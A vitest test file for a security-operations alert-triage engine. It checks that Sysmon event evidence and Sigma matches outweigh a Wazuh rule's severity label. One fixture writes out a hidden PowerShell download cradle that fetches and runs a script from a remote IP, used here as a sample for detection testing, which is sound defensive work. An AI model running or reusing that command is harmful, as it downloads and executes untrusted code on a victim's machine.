import { describe, expect, it } from 'vitest';
import type { Alert, Enrichment, SourceEvent } from '@soc/contracts';
import { loadTriageKnowledge, triageAlert } from '../src/engine.ts';
import { loadWeights } from '../src/weights.ts';

const weights = loadWeights();
const knowledge = loadTriageKnowledge();
const noFacts: Enrichment = { facts: [], missing: [] };
const sysmon = (eventId: number, category: string, fields: Record<string, string>): SourceEvent => ({
  logsources: [{ product: 'windows', service: 'sysmon' }, { product: 'windows', category, service: 'sysmon' }],
  fields: { EventID: eventId, Channel: 'Microsoft-Windows-Sysmon/Operational', ...fields },
});

/** A Wazuh alert of the given rule level's severity, carrying its raw Sysmon event (or none). */
function alertOf(severity: Alert['severity'], sourceEvents?: SourceEvent[], processes: Alert['entities'] = []): Alert {
  return {
    schemaVersion: 1,
    alertId: `alt-${severity}`,
    tenantId: 'contoso',
    source: { name: 'wazuh', product: 'Wazuh', vendorAlertId: 'v-1' },
    title: 'Sysmon - Suspicious Process - explorer.exe',
    description: '',
    severity,
    status: 'new',
    detectedAt: '2026-12-07T09:59:00.000Z',
    attack: [{ techniqueId: 'T1055' }],
    entities: [{ id: 'host:ws-01', type: 'host', value: 'ws-01', origin: 'source' }, ...processes],
    labels: [],
    ...(sourceEvents === undefined ? {} : { sourceEvents }),
  };
}

// Windows' own session manager opening Explorer: what rule 92910 (level 12) fires on all day long.
const routineAccess = sysmon(10, 'process_access', {
  SourceImage: 'C:\\Windows\\system32\\svchost.exe',
  TargetImage: 'C:\\Windows\\explorer.exe',
  GrantedAccess: '0x1000',
  CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e',
});
// An encoded PowerShell download cradle, as Atomic Red Team runs it.
const cradle = sysmon(1, 'process_creation', {
  Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  OriginalFileName: 'PowerShell.EXE',
  CommandLine: 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/a.ps1\')"',
  ParentImage: 'C:\\Windows\\System32\\cmd.exe',
  User: 'CONTOSO\\alice',
});

const explorer: Alert['entities'] = [{ id: 'process:explorer', type: 'process', value: 'C:\\Windows\\explorer.exe', name: 'explorer.exe', origin: 'source' }];
const powershell: Alert['entities'] = [{ id: 'process:ps', type: 'process', value: String(cradle.fields.Image), name: 'powershell.exe', commandLine: String(cradle.fields.CommandLine), parentName: 'cmd.exe', origin: 'source' }];

describe('what the raw event shows outweighs the rule\'s label (issue 12)', () => {
  it('a high-severity rule on an event no Sigma rule of level medium or above matches is not escalated on its label', () => {
    const withEvent = triageAlert(alertOf('high', [routineAccess], explorer), noFacts, weights, knowledge);
    expect(withEvent.verdict.class).not.toBe('true-positive');
    const factor = withEvent.risk.factors.find((f) => f.name === 'event-shows-nothing-suspicious');
    expect(factor?.points).toBeLessThan(0);
    expect(factor?.evidence).toMatch(/read by \d+ Sigma rules: none of level medium or above matched/);
    // The same alert without its raw event is judged on the label, as before: no negative factor for what it lacks.
    const withoutEvent = triageAlert(alertOf('high', undefined, explorer), noFacts, weights, knowledge);
    expect(withoutEvent.verdict.class).toBe('true-positive');
    expect(withoutEvent.risk.factors.map((f) => f.name)).not.toContain('event-shows-nothing-suspicious');
  });

  it('an attack filed under a low-level rule is called when the event shows it (Sigma high, a download cradle)', () => {
    const t = triageAlert(alertOf('informational', [cradle], powershell), noFacts, weights, knowledge);
    expect(t.verdict.class).toBe('true-positive');
    expect(t.risk.score).toBeGreaterThanOrEqual(weights.eventEvidence.strongBehaviour);
    // The Sigma hit alone, without the behaviour (no process entity), lifts it to Sigma's own target, saying why.
    const sigmaOnly = triageAlert(alertOf('informational', [cradle]), noFacts, weights, knowledge);
    expect(sigmaOnly.verdict.class).toBe('true-positive');
    expect(sigmaOnly.risk.factors.find((f) => f.name === 'event-evidence')?.evidence).toMatch(/Sigma «.+» \((high|critical)\) matched it: scored at least (70|85) whatever the source rule's informational severity/);
  });

  it('a detection product\'s evidence record lists only what the product chose to show: nothing found lowers nothing', () => {
    const evidence = { ...routineAccess, evidence: true };
    const t = triageAlert(alertOf('high', [evidence], explorer), noFacts, weights, knowledge);
    expect(t.risk.factors.map((f) => f.name)).not.toContain('event-shows-nothing-suspicious');
    expect(t.verdict.class).toBe('true-positive');
  });

  it('earlier sightings of the rule and entities do not lift an event that shows nothing', () => {
    const sightings: Enrichment = {
      facts: [
        { id: 'history:host:ws-01', kind: 'history', entityId: 'host:ws-01', source: 'history', observedAt: '2026-12-07T09:00:00.000Z', statement: 'seen 12 times', attributes: { priorAlertCount: 12 } },
        { id: 'rule-history:r', kind: 'rule-history', source: 'history', observedAt: '2026-12-07T09:00:00.000Z', statement: 'rule seen 40 times', attributes: { priorAlertCount: 40 } },
      ],
      missing: [],
    };
    const t = triageAlert(alertOf('high', [routineAccess], explorer), sightings, weights, knowledge);
    const lifted = t.risk.factors.filter((f) => ['entity-history', 'recurring-rule'].includes(f.name)).reduce((n, f) => n + f.points, 0);
    expect(lifted).toBeGreaterThan(0);
    expect(t.verdict.class).not.toBe('true-positive');
    expect(t.risk.factors.find((f) => f.name === 'event-shows-nothing-suspicious')?.evidence).toMatch(/earlier sightings/);
  });

  it('an event of a logsource few Sigma rules read says nothing by matching none', () => {
    const odd: SourceEvent = { logsources: [{ product: 'windows', service: 'no-such-channel' }], fields: { EventID: 1, Data: 'x' } };
    const t = triageAlert(alertOf('high', [odd], explorer), noFacts, weights, knowledge);
    expect(t.risk.factors.map((f) => f.name)).not.toContain('event-shows-nothing-suspicious');
  });
});
